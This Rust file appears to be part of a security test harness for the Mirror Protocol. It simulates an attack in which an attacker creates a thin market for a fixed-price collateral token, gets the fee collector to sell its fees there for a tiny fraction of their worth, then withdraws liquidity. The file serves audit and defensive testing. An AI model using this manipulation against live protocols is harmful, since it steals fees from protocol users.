//! Fees sold into the attacker's own market.

use mirror_protocol::collateral_oracle::{ExecuteMsg, SourceType};
use mirror_testing::World;
use serde_json::json;
use terraswap::asset::{Asset, AssetInfo};
use terraswap::pair::Cw20HookMsg;

use crate::attacks::attack::Attack;
use crate::attacks::fixtures::{self, UNIT};
use crate::attacks::report::{Attempt, Findings};
use crate::attacks::transaction::Transaction;
use crate::attacks::trial::Trial;

pub(super) const ATTACK: Attack = Attack {
    name: "fees for an own market",
    story: "Fees in a collateral that had neither a feed in our oracle nor a market: who made its \
            market, of 100 coins against 1,000,000 tokens, had the collector sell 12,000 coins' \
            worth of them there for 0.99.",
    run,
};

/// The fair price of the token.
const PRICE: &str = "1.2";
/// The tokens of the collector, worth 12,000 coins.
const FEES: u128 = 9_999_900_000;
/// The tokens in the attacker's pool.
const TOKENS: u128 = 1_000_000 * UNIT;
/// The coins in the attacker's pool.
const COINS: u128 = 100 * UNIT;
/// The blocks with a conversion.
const BLOCKS: usize = 4;

/// How the protocol knows the token.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Known {
    /// As collateral with a fixed price.
    Fixed,
    /// As collateral with a fixed price that gov has revoked.
    Revoked,
}

fn run() -> anyhow::Result<Findings> {
    let ways: anyhow::Result<Vec<Attempt>> = [Known::Fixed, Known::Revoked]
        .map(|known| converts(known, COINS))
        .into_iter()
        .collect();
    // Coins for a thousand tokens: prices around the limit of the spread.
    let near: anyhow::Result<Vec<Attempt>> = (1_188..1_200)
        .map(|coins| converts(Known::Fixed, TOKENS / 1_000 * coins))
        .collect();
    Ok(Findings {
        attempts: vec![Attempt::best(
            ways?,
            "made the first market of a collateral of a fixed price, revoked or not, at a \
             ten-thousandth of its worth, had its fees converted in four blocks and took the \
             market down",
        )?],
        exposures: vec![Attempt::best(near?, "")?.exposes(
            "his market stands so close to the price that the sale stays within the spread of a \
             per cent that the collector takes",
        )],
    })
}

fn converts(known: Known, base: u128) -> anyhow::Result<Attempt> {
    let mut trial = prepared(known)?;
    let gem = trial.world.token("GEM");
    fixtures::new_pool(&mut trial.world, "GEM", "attacker", base, TOKENS)?;
    let convert = json!({ "convert": { "asset_token": gem } });
    let collector = trial.world.at.collector.clone();
    for _ in 0..BLOCKS {
        trial.tries("T-76", Transaction::new().calls(&collector, &convert))?;
        trial.world.chain.pass(6);
    }
    takes_down(&mut trial)?;

    let got = trial.world.base_balance(&collector);
    let sold = FEES - trial.world.token_balance(&gem, &collector).u128();
    let worth = trial.worth(&Asset::token(&gem, sold))?;
    trial.adds_loss(worth.saturating_sub(got));
    trial.ends(String::new())
}

/// The attacker withdraws all liquidity.
fn takes_down(trial: &mut Trial) -> anyhow::Result<()> {
    let listed = trial.world.asset("GEM");
    let shares = trial.world.token_balance(&listed.lp_token, &trial.attacker);
    let hook = Cw20HookMsg::WithdrawLiquidity {
        min_assets: None,
        deadline: None,
    };
    let out = Transaction::new().hands(&listed.lp_token, shares.u128(), &listed.pair, &hook);
    trial.does(out)?;
    Ok(())
}

/// The collector has fees in the token.
fn prepared(known: Known) -> anyhow::Result<Trial> {
    let mut world = World::new();
    let holders = [("attacker", TOKENS), ("bob", FEES)];
    let token = fixtures::new_token(&mut world, "GEM", &holders)?;
    let fixed = SourceType::FixedPrice {
        price: fixtures::price(PRICE)?,
    };
    fixtures::registers_collateral(&mut world, "GEM", fixed, TOKENS)?;
    if known == Known::Revoked {
        let revoke = ExecuteMsg::RevokeCollateralAsset {
            asset: AssetInfo::token(&token),
        };
        let oracle = world.at.collateral_oracle.clone();
        fixtures::governs(&mut world, &oracle, &revoke)?;
    }
    let collector = world.at.collector.clone();
    world.bob().gives(&token, FEES, &collector);
    Trial::new(world, &[("GEM", fixtures::price(PRICE)?)])
}
